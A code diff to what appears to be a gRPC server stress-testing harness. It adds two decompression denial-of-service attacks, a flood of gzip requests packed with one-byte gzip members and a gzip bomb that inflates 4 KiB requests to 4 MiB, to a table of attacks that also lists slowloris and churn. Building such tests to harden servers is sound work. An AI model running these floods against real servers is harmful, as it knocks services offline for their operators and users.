@@ -12,6 +12,7 @@ import asyncio
 import contextlib
 import socket
 import ssl
+import zlib
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 
@@ -392,6 +393,61 @@ async def churn(target: Target) -> None:
     await asyncio.gather(*(churner() for _ in range(8)))
 
 
+def _gzip_calls(connection: RawConnection, message: bytes, calls: int) -> bytes:
+    """``calls`` UnaryCall requests whose one message is ``message``, sent as gzip."""
+    body = f.grpc_message_prefix(len(message), compressed=True) + message
+    parts = []
+    for _ in range(calls):
+        stream_id = connection.next_stream_id
+        block = connection.blocks.encode([*f.request_headers(), (b"grpc-encoding", b"gzip")])
+        parts.append(f.frame(f.HEADERS, f.END_HEADERS, connection.new_stream_id(), block))
+        for offset in range(0, len(body), 16384):
+            last = offset + 16384 >= len(body)
+            parts.append(f.frame(f.DATA, f.END_STREAM if last else 0, stream_id,
+                                 body[offset : offset + 16384]))
+    return b"".join(parts)
+
+
+async def _gzip_flood(target: Target, message: bytes, calls: int, pause: float,
+                      budget: int) -> None:
+    """Send ``calls`` gzip calls of ``message``, then pause, until ``budget`` calls.
+
+    The pause keeps the calls within the server's flow-control windows (the attacker does not
+    read them) while far more work arrives than a Python server can decompress.
+    """
+    sent = reconnects = 0
+    while sent < budget and target.time_left() > 0 and reconnects < MAX_RECONNECTS:
+        reconnects += 1
+        connection = await target.connect()
+        if connection is None:
+            await asyncio.sleep(0.05)
+            continue
+        try:
+            batch = _gzip_calls(connection, message, calls)
+            while sent < budget and await connection.send(batch, calls):
+                sent += calls
+                await asyncio.sleep(min(pause, max(0.0, target.time_left())))
+                batch = _gzip_calls(connection, message, calls)
+        finally:
+            connection.close()
+
+
+async def gzip_members(target: Target) -> None:
+    """Gzip requests of 60 KiB of one-byte gzip members each, 200 a second (2,000 calls)."""
+    member = zlib.compress(b"x", wbits=31)
+    await _gzip_flood(target, member * (60 * 1024 // len(member)), 1, 0.005,
+                      target.budget(2_000))
+
+
+async def gzip_bomb(target: Target) -> None:
+    """4 KiB gzip requests inflating to a 4 MiB SimpleRequest, 150 a second (1,500 calls)."""
+    request = messages_pb2.SimpleRequest(
+        payload=messages_pb2.Payload(body=bytes(4 * 1024 * 1024 - 1024))
+    ).SerializeToString()
+    await _gzip_flood(target, zlib.compress(request, 9, wbits=31), 15, 0.1,
+                      target.budget(1_500))
+
+
 @dataclass(frozen=True)
 class Attack:
     """One attack: its table name, whether it needs a TLS server, and the coroutine."""
@@ -422,6 +478,8 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("slowloris-hello", slowloris_client_hello, tls=True),
     Attack("slowloris-silent", slowloris_silent),
     Attack("churn", churn),
+    Attack("gzip-members", gzip_members),
+    Attack("gzip-bomb", gzip_bomb),
 )
 """Every attack, in the order of the table.  Add new ones here (see the package docstring)."""
 
